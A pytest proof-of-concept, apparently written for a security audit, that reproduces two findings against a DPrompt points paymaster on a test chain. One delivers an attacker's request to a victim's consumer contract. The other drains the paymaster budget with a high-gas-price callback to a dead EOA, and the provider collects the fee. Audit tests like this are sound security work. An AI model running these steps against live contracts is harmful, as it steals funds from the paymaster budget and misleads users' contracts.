"""Finding A and B on the real DPrompt: any points holder can (A) deliver an answer to another
user's consumer that trusts the paymaster, and (B) make the budget pay maxFee for a callback to an
EOA that never runs, priced at the attacker's own gas price, which the provider collects."""
from __future__ import annotations

import pytest
from chainenv import MIN_STAKE
from rexenv import DAY, UNIT, RexEnv
from web3.logs import DISCARD

from zkrevox.chain.deploy import deploy_contract
from zkrevox.chain.solc import project_contracts

pytestmark = pytest.mark.chain
PROMPT = "swap 2 bnb for cake"


def _fulfil(rex, rid):
    env = rex.env
    proof = env.toy.prove(PROMPT)
    return env.client(env.provider).fulfil(rid, proof.proof_bytes, proof.outputs(env.toy.num_outputs))


def test_attack_callbackInjection_and_budgetDraw(rex: RexEnv):
    env = rex.env
    env.client(env.provider).stake(env.model_id, MIN_STAKE)
    victim = rex.client(env.user)
    # the attacker: the provider's own account (it also stakes REX for points)
    attacker = rex.client(env.provider)
    attacker.stake(1_000 * UNIT)
    victim.stake(1_000 * UNIT)
    rex.advance(DAY)
    compiled = project_contracts()["HostileConsumer"]
    rec = deploy_contract(env.w3, env.user, compiled, rex.record.paymaster)  # the victim's consumer
    consumer = env.w3.eth.contract(address=rec.address, abi=compiled.abi)
    victim._send(consumer.functions.setMode(0, 0))
    rid, _, _ = attacker.request_with_points(env.model_id, PROMPT, consumer=rec.address, callback_gas_limit=100_000)
    receipt = _fulfil(rex, rid)
    (ev,) = attacker.paymaster.events.PointsPaymasterCallback().process_receipt(receipt, errors=DISCARD)
    print(f"\nA: attacker's request {rid} (requestOf user = attacker: "
          f"{attacker.paymaster.functions.requestOf(rid).call()[0] == env.provider.address}) delivered to the "
          f"victim's consumer: success={ev.args.success}, consumer.calls={consumer.functions.calls().call()}, "
          f"lastAnswer={consumer.functions.lastAnswer().call()}")
    # B: callback to an EOA at a high gas price
    dp = env.client(None).contract if hasattr(env.client(None), "contract") else None
    pm = attacker.paymaster
    budget0 = pm.functions.budget().call()
    max_cb = env.client(None).contract.functions.maxCallbackGasLimit(env.model_id).call() 
    cb = min(max_cb, 2_000_000) - pm.functions.FORWARD_GAS().call()
    model_fee = env.client(None).contract.functions.requiredPayment(env.model_id, 0, 0).call() 
    gp = (pm.functions.maxFee().call() - model_fee) // (cb + 40_000 + 15_000) - 10**9
    fn = pm.functions.request(env.model_id, PROMPT.encode(), "0x000000000000000000000000000000000000dEaD", cb)
    acct = env.provider
    tx = fn.build_transaction({"from": acct.address, "gas": 1_000_000, "gasPrice": gp,
                               "nonce": env.w3.eth.get_transaction_count(acct.address), "chainId": env.w3.eth.chain_id})
    r = env.w3.eth.wait_for_transaction_receipt(env.w3.eth.send_raw_transaction(acct.sign_transaction(tx).raw_transaction))
    assert r.status == 1
    (req,) = pm.events.PointsPaymasterRequested().process_receipt(r, errors=DISCARD)
    earned0 = dict(env.client(None).contract.functions.providerState(env.model_id, env.provider.address).call().__dict__) if False else env.client(None).contract.functions.providerState(env.model_id, env.provider.address).call()
    _fulfil(rex, req.args.requestId)
    earned1 = dict(env.client(None).contract.functions.providerState(env.model_id, env.provider.address).call().__dict__) if False else env.client(None).contract.functions.providerState(env.model_id, env.provider.address).call()
    print(f"B: model fee {model_fee} wei; request at {gp} wei/gas with callbackGasLimit {cb} to 0x..dEaD: budget paid "
          f"{req.args.fee} wei (budget {budget0} -> {pm.functions.budget().call()}); attacker's tx gas cost "
          f"{r.gasUsed * gp} wei; provider state before/after fulfil: {earned0} / {earned1}")
